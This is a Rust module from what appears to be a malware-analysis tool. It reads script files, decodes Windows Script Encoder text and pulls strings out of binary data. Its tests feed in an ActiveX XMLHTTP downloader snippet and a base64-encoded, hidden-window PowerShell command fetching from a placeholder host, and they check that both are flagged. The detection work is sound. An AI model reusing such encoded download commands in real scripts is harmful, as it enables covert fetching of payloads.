//! Files that are scripts, and scripts inside markup.

pub(crate) mod encoded;
pub(crate) mod markup;

use crate::macros::calls::Language;
use crate::macros::study;
use crate::oddities;
use crate::registry::Analyser;
use crate::specimen::Specimen;

/// Bytes of a script that are read.
const SCRIPT_BYTES: usize = 8 << 20;

/// Shortest run of characters that counts as a word in binary data.
const WORD: usize = 6;

/// Bytes of words taken out of binary data.
const WORDS_BYTES: usize = 64 << 10;

pub(crate) static ANALYSER: Analyser = Analyser {
    kinds: &["js", "jse", "vbs", "vbe", "ps1", "bat", "wsf", "wsc", "sct", "wsh"],
    run,
    tells: &[],
    oddities: &[oddities::entry(
        "script-size-limit",
        "スクリプトが大きいため途中までを読みました",
        "The script is large; only its beginning was read",
    )],
};

fn run(bytes: &[u8], specimen: &mut Specimen<'_, '_>) {
    let head = bytes.get(..SCRIPT_BYTES).unwrap_or(bytes);
    if head.len() < bytes.len() {
        specimen.odd("script-size-limit", "");
    }
    let text = forensics::charset::decode(head, None).text;
    match specimen.file.kind.as_str() {
        "wsf" | "wsc" | "sct" => markup::blocks(specimen, &text),
        // Which script it starts stands in it.
        "wsh" => specimen.text(&text),
        "vbs" | "vbe" => source(specimen, Language::VbScript, "", &text),
        "ps1" => source(specimen, Language::PowerShell, "", &text),
        "bat" => source(specimen, Language::Batch, "", &text),
        _ => source(specimen, Language::JavaScript, "", &text),
    }
}

/// A script's source text, decoded first where it is encoded.
pub(crate) fn source(specimen: &mut Specimen<'_, '_>, language: Language, name: &str, text: &str) {
    match encoded::decode(text) {
        Some(decoded) => {
            specimen.property("script.encoded", "Windows Script Encoder");
            study::study(specimen, language, name, &decoded);
        }
        None => study::study(specimen, language, name, text),
    }
}

/// The words in binary data, ASCII and UTF-16LE, a line each.
pub(crate) fn words(bytes: &[u8]) -> String {
    let mut out = String::new();
    let mut push = |run: &[u8]| {
        if run.len() >= WORD && out.len() + run.len() < WORDS_BYTES {
            out.extend(run.iter().map(|b| char::from(*b)));
            out.push('\n');
        }
    };
    let shown = |b: u8| matches!(b, b' '..=b'~' | b'\t');
    let (mut at, mut run) = (0, Vec::new());
    while let Some(byte) = bytes.get(at).copied() {
        let wide = bytes.get(at + 1) == Some(&0);
        if shown(byte) && !wide {
            let length = bytes.get(at..).unwrap_or(&[]).iter().take_while(|b| shown(**b)).count();
            push(bytes.get(at..at + length).unwrap_or(&[]));
            at += length;
        } else if shown(byte) {
            run.clear();
            while let [b, 0, ..] = bytes.get(at..).unwrap_or(&[])
                && shown(*b)
            {
                run.push(*b);
                at += 2;
            }
            push(&run);
        } else {
            at += 1;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{ids, open};

    #[test]
    fn a_script_file_is_kept_with_its_calls() {
        let script = format!("var x = new ActiveXObject('MSXML2.{}');", "XMLHTTP");
        let opened = open("a.js", "js", script.as_bytes());
        assert_eq!(opened.attachment.scripts[0].language, "javascript");
        assert!(ids(&opened).contains(&"script-downloads"));
    }

    #[test]
    fn a_command_hidden_in_base64_is_read() {
        let wide: Vec<u8> = "iwr http://a.example/x".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let script = format!("powershell -w 1 -enc {}", data(&wide));
        let opened = open("a.bat", "bat", script.as_bytes());
        assert_eq!(opened.attachment.scripts[1].text, "iwr http://a.example/x");
        assert!(ids(&opened).contains(&"script-obfuscated"));
    }

    #[test]
    fn an_everyday_script_gives_nothing_away() {
        let script = b"function add(a, b) { return a + b + 'one' + \"two\"; }\nalert('Sum: ' + add(1, 2));";
        assert!(open("a.js", "js", script).tells.is_empty());
    }

    #[test]
    fn words_are_found_in_binary_data() {
        assert_eq!(words(b"\x01\x02abcdef\0\0h\0t\0t\0p\0:\0/\0\xff\xffab"), "abcdef\nhttp:/\n");
    }

    /// Base64 as any encoder writes it.
    pub(crate) fn data(bytes: &[u8]) -> String {
        const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for three in bytes.chunks(3) {
            let held = three.iter().fold(0u32, |h, b| h << 8 | u32::from(*b)) << (8 * (3 - three.len()));
            for digit in 0..=three.len() {
                out.push(char::from(DIGITS[(held >> (18 - 6 * digit) & 63) as usize]));
            }
            out.extend(std::iter::repeat_n('=', 3 - three.len()));
        }
        out
    }
}
